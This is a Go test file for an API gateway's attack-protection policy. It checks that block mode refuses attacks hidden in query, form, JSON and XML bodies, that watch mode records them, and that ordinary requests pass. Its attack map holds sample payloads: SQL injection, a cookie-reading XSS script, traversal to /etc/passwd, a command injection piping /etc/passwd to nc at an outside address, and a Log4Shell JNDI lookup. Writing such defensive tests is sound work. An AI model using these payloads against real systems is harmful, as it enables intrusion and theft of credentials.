package app_test

import (
	"context"
	"encoding/xml"
	"fmt"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"farrier.dev/farrier/internal/app"
	"farrier.dev/farrier/internal/posture"
	"farrier.dev/farrier/internal/store"
)

// protected are two APIs with the same protection: one refuses, one watches.
const protected = `
apiVersion: gateway.mulesoft.com/v1alpha1
kind: ApiInstance
metadata: {name: block}
spec:
  address: http://0.0.0.0:8081/block
  services: {echo: {address: "http://127.0.0.1:9001"}}
  policies: [{policyRef: {name: attack-protection}, config: {mode: block}}]
---
apiVersion: gateway.mulesoft.com/v1alpha1
kind: ApiInstance
metadata: {name: watch}
spec:
  address: http://0.0.0.0:8081/watch
  services: {echo: {address: "http://127.0.0.1:9001"}}
  policies: [{policyRef: {name: attack-protection}, config: {mode: watch}}]
`

var attacks = map[string]string{
	"sql":       "1' OR '1'='1' -- ",
	"xss":       "<script>alert(document.cookie)</script>",
	"traversal": "../../../../etc/passwd",
	"command":   "x; cat /etc/passwd | nc 203.0.113.9 80",
	"log4shell": "${jndi:ldap://203.0.113.9/a}",
}

// hide writes a payload into one part of a request.
var hide = map[string]func(api, payload string) string{
	"query": func(api, payload string) string {
		return "GET /" + api + "/orders?note=" + url.QueryEscape(payload) + " HTTP/1.1"
	},
	"form": func(api, payload string) string {
		return "POST /" + api + "/orders HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\nitem=nails&note=" + url.QueryEscape(payload)
	},
	"json": func(api, payload string) string {
		return fmt.Sprintf("POST /%s/orders HTTP/1.1\nContent-Type: application/json\n\n{\"items\":[{\"note\":%q}]}", api, payload)
	},
	"xml": func(api, payload string) string {
		var text strings.Builder
		_ = xml.EscapeText(&text, []byte(payload))
		return "POST /" + api + "/orders HTTP/1.1\nContent-Type: text/xml\n\n<order><note>" + text.String() + "</note></order>"
	},
}

// TestAttacks hides five attacks in four places: in block mode they are refused
// with 403, in watch mode they pass, and both are recorded.
func TestAttacks(t *testing.T) {
	run := serve(t, startServices(t, nil), one(protected))
	played := 0
	for kind, payload := range attacks {
		for place, hidden := range hide {
			played++
			got := run.get(t, "8081", hidden("block", payload))
			if got.status != 403 || got.seen != nil || !strings.Contains(got.body, "Request blocked.") {
				t.Errorf("%s in %s: %d %s", kind, place, got.status, got.body)
			}
			got = run.get(t, "8081", hidden("watch", payload))
			if got.status != 200 || got.seen == nil {
				t.Errorf("%s in %s was watched only, and answered %d %s", kind, place, got.status, got.body)
			}
		}
	}
	// All that was seen is written when the gateway has stopped.
	if err := run.stop(); err != nil {
		t.Fatal(err)
	}
	counts := run.findings(t)
	t.Logf("played %d attacks twice; findings %v", played, counts)
	if played != 20 || counts["default/block"] < int64(played) || counts["default/watch"] != counts["default/block"] {
		t.Error("what was blocked and what was watched should be recorded alike, at least once each")
	}
}

// findings are the counts of what was found, by API.
func (r *running) findings(t *testing.T) map[string]int64 {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	open := func(name string) *store.DB {
		db, err := store.Open(ctx, filepath.Join(r.data, name), store.Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = db.Close() })
		return db
	}
	p, err := posture.New(ctx, posture.Options{
		DB: open(store.TrafficFile), Control: open(store.ControlFile), Environment: "default", Gateway: "farrier", Now: time.Now,
	})
	if err != nil {
		t.Fatal(err)
	}
	items, total, err := p.List(ctx, posture.Filter{Limit: 1000})
	if err != nil || total > len(items) {
		t.Fatalf("%d of %d findings, %v", len(items), total, err)
	}
	counts := map[string]int64{}
	for _, item := range items {
		counts[item.Location.API] += item.Count
	}
	return counts
}

// TestOrdinaryTraffic holds that what people do with the sample API is no attack.
func TestOrdinaryTraffic(t *testing.T) {
	run := serve(t, startServices(t, app.SampleAPI()), one(protected))
	requests := []string{
		"GET /block/orders HTTP/1.1",
		"GET /block/orders/7 HTTP/1.1\nAccept: application/json\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0\nAccept-Language: de-DE,de;q=0.8",
		"GET /block/orders?customer=O%27Brien&sort=price&page=2 HTTP/1.1",
		"GET /block/orders/7?note=select+the+best+from+the+table HTTP/1.1",
		"GET /block/reports/daily?from=2026-01-01T00:00:00Z&to=2026-02-01 HTTP/1.1",
		"GET /block/admin/stock HTTP/1.1\nCookie: session=8f14e45fceea167a5a36dedd4bea2543; theme=dark",
		"POST /block/orders HTTP/1.1\nContent-Type: application/json\n\n{\"item\":\"hoof pick\",\"quantity\":2,\"note\":\"for Conan O'Brien -- call first\"}",
		"POST /block/orders HTTP/1.1\nContent-Type: application/json; charset=utf-8\n\n{\"item\":\"Nägel\",\"quantity\":200,\"note\":\"20 % off & free <gift>\"}",
	}
	for _, request := range requests {
		if got := run.get(t, "8081", request); got.status != 200 && got.status != 201 {
			t.Errorf("%s\n%d %s", request, got.status, got.body)
		}
	}
	t.Logf("played %d requests", len(requests))
}
